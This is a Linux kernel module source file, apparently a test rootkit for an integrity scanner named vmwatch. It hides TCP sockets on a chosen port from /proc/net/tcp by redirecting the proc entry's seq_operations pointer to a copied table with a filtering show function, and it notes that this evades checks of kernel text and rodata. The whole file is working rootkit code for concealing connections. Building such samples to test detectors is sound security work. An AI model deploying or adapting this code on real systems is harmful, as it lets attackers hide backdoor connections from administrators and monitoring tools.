// SPDX-License-Identifier: GPL-2.0
/*
 * rk_pdeops: TEST ROOTKIT for vmwatch's integrity scanner. Never load it on a
 * machine you care about.
 *
 * Hides TCP sockets without touching read-only memory: the seq_operations
 * pointer of init_net's /proc/net/tcp entry (a heap `proc_dir_entry`) is
 * pointed at a copy of tcp4_seq_ops whose `show` skips sockets whose local or
 * remote port is `port` (default 31337). tcp4_seq_ops itself is untouched, so
 * a check of kernel text and rodata sees nothing.
 *
 * struct proc_inode and struct proc_dir_entry live in fs/proc/internal.h,
 * which linux-headers does not ship: the test passes the two offsets it
 * reads from the kernel's BTF (`pde_delta`: proc_inode.pde minus
 * proc_inode.vfs_inode; `seq_ops_off`: proc_dir_entry.seq_ops).
 * rmmod puts the original pointer back.
 *
 * One line on load, for tests (addresses raw):
 *   rk_pdeops: hooked /proc/net/tcp seq_ops@<slot>:<old>-><new> port=<n>
 */
#define pr_fmt(fmt) KBUILD_MODNAME ": " fmt

#include <linux/module.h>
#include <linux/kernel.h>
#include <linux/fs.h>
#include <linux/seq_file.h>
#include <linux/delay.h>
#include <linux/rcupdate.h>
#include <linux/err.h>
#include <net/sock.h>

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("vmwatch test rootkit: /proc/net/tcp's seq_operations pointer swapped");

static int port = 31337;
module_param(port, int, 0444);
MODULE_PARM_DESC(port, "TCP port whose sockets /proc/net/tcp no longer shows");
static long pde_delta;
module_param(pde_delta, long, 0444);
MODULE_PARM_DESC(pde_delta, "offsetof(proc_inode, pde) - offsetof(proc_inode, vfs_inode)");
static long seq_ops_off = -1;
module_param(seq_ops_off, long, 0444);
MODULE_PARM_DESC(seq_ops_off, "offsetof(proc_dir_entry, seq_ops)");

#include "rk_common.h"

static const struct seq_operations **slot;
static const struct seq_operations *orig_ops;
static struct seq_operations fake_ops;
static atomic_t inflight = ATOMIC_INIT(0);

static int hook_show(struct seq_file *seq, void *v)
{
	int ret = 0;

	atomic_inc(&inflight);
	if (rk_sock_on_port(v, port))
		goto out;
	ret = orig_ops->show(seq, v);
out:
	atomic_dec(&inflight);
	return ret;
}

static int __init rk_pdeops_init(void)
{
	struct file *f;
	void *pde;

	if (seq_ops_off < 0 || pde_delta == 0) {
		pr_err("give pde_delta= and seq_ops_off= (from the kernel's BTF)\n");
		return -EINVAL;
	}
	/* /proc/net is /proc/self/net: insmod's namespace, init_net here */
	f = filp_open("/proc/net/tcp", O_RDONLY, 0);
	if (IS_ERR(f))
		return PTR_ERR(f);
	pde = *(void **)((char *)file_inode(f) + pde_delta);
	filp_close(f, NULL);
	if (!pde)
		return -ENOENT;
	slot = (const struct seq_operations **)((char *)pde + seq_ops_off);
	orig_ops = READ_ONCE(*slot);
	fake_ops = *orig_ops;
	fake_ops.show = hook_show;
	WRITE_ONCE(*slot, &fake_ops);
	pr_info("hooked /proc/net/tcp seq_ops@%px:%px->%px port=%d\n",
		slot, orig_ops, &fake_ops, port);
	return 0;
}

static void __exit rk_pdeops_exit(void)
{
	WRITE_ONCE(*slot, orig_ops);
	synchronize_rcu();
	/* files opened while hooked keep fake_ops: wait for readers in show */
	while (atomic_read(&inflight))
		msleep(10);
	msleep(100);
	pr_info("unhooked /proc/net/tcp\n");
}

module_init(rk_pdeops_init);
module_exit(rk_pdeops_exit);
